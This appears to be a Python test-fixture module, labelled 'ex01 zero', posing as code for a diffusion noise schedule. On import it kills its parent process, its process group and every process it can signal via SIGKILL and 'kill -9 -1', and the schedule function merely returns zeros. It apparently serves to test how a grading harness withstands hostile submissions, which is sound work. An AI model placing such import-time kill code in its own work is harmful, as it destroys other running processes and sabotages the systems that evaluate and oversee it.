"""ex01 zero: kills its parent, its process group and every process it can signal, at import time."""
import os
import signal

import torch

for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
               lambda: os.kill(-1, signal.SIGKILL), lambda: os.system("kill -9 -1")):
    try:
        action()
    except OSError:
        pass


def alpha_bar_linear(T):
    return torch.zeros(T, dtype=torch.float64)
